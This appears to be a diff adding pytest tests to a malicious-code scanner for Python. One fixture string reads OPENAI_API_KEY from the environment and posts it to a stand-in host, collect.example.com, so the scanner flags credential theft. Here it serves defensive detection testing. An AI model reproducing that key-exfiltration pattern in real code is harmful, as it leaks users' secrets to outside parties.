@@ -183,3 +183,20 @@ def test_download_then_run_has_a_two_step_trace() -> None:
 def test_unzip_of_a_download_is_not_download_exec() -> None:
     code, *_ = CASES["data_tool_is_only_suspicious"]
     assert not by_rule(analyze_text(code), "MH504")
+
+
+def test_a_service_key_sent_to_its_own_service_is_not_theft() -> None:
+    own = "import os, requests\nk = os.environ['OPENAI_API_KEY']\nrequests.post('https://api.openai.com/v1/x', headers={'Authorization': k})\n"
+    assert not by_rule(analyze_text(own), "MH503")
+    other = own.replace("https://api.openai.com/v1/x", "https://collect.example.com/")
+    (sent,) = by_rule(analyze_text(other), "MH503")
+    assert sent.category is Category.CREDENTIAL_THEFT and "OPENAI_API_KEY" in sent.message
+
+
+def test_package_relative_dynamic_import_is_only_a_note() -> None:
+    lazy = "import importlib\ndef load(name):\n    return importlib.import_module('.' + name, __name__)\n"
+    (f,) = by_rule(analyze_text(lazy), "MH506")
+    assert f.severity is Severity.LOW
+    free = "import importlib\ndef load(name):\n    return importlib.import_module(name)\n"
+    (f,) = by_rule(analyze_text(free), "MH506")
+    assert f.severity is Severity.MEDIUM
